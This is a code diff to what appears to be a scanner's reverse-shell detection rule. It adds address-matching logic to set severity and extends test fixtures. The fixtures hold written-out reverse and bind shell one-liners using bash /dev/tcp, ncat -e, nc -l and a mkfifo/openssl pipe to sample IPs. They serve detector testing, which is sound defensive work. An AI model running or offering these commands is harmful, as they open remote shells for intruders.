@@ -790,12 +790,24 @@ def _encoded_literal(doc: Document) -> Iterator[Hit]:
             return
 
 
+# Where a shell is sent: an IP, a host name, a variable set elsewhere, or a listening port (a bind
+# shell needs no address). A sample written with placeholders (`/dev/tcp/HOST/PORT`, `nc … -e`)
+# reaches no one as it stands: it is shown, not run, and is medium at most.
+_SHELL_ADDRESS = text_rx(r"\d{1,3}(?:\.\d{1,3}){3}|\b[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}\b|\$\{?[A-Za-z_]|"
+                         r"(?:^|\s)-[a-z]*l[a-z]*\b|\blisten\b|(?i:tcp-listen)")
+
+
 def _reverse_shell(doc: Document) -> Iterator[Hit]:
     claimed: list[tuple[int, int]] = []
     for m in doc.finditer(_REVERSE_SHELL):
         claimed.append((m.start, m.end))
         ctx = context_at(doc, m.start, m.end)
-        yield Hit(m.start, m.end, severity=lowered(Severity.CRITICAL, ctx, code_counts=_code_counts(ctx), quotes_count=_code_counts(ctx)))
+        eol = doc.text.find("\n", m.end)
+        line = doc.text[m.start:eol if eol >= 0 else len(doc.text)][:400]
+        tick = line.find("`", m.end - m.start)
+        line = line[:tick] if tick >= 0 else line  # the command's own inline code span
+        top = Severity.CRITICAL if _SHELL_ADDRESS.search(line.replace("/bin/", " ").replace("/dev/", " ")) else Severity.MEDIUM
+        yield Hit(m.start, m.end, severity=lowered(top, ctx, code_counts=_code_counts(ctx), quotes_count=_code_counts(ctx)))
     yield from _grader_hits(doc, K.REVERSE_SHELL, claimed)
 
 
@@ -1119,7 +1131,8 @@ RULES = [
         must_match=["```bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\n", "`nc -l -p 4443 | /bin/bash`\n", "`ncat 1.2.3.4 9001 -e /bin/sh`\n",
                     "```sh\nmkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/.s\n```\n"],
         must_not_match=["Check the port with `nc -zv host 443`.\n", "Use `bash -i` for an interactive shell.\n", "Sockets are in /dev/shm.\n"],
-        lowered=["## Attack patterns\n\nDetect `bash -i >& /dev/tcp/host/port` in scripts.\n"],
+        lowered=["## Attack patterns\n\nDetect `bash -i >& /dev/tcp/host/port` in scripts.\n",
+                 "Shells holding a socket on stdin are a reverse shell's signature (`bash -i >& /dev/tcp/HOST/PORT 0>&1`).\n"],
     ),
     rule(
         id="IG505", name="crypto-miner",
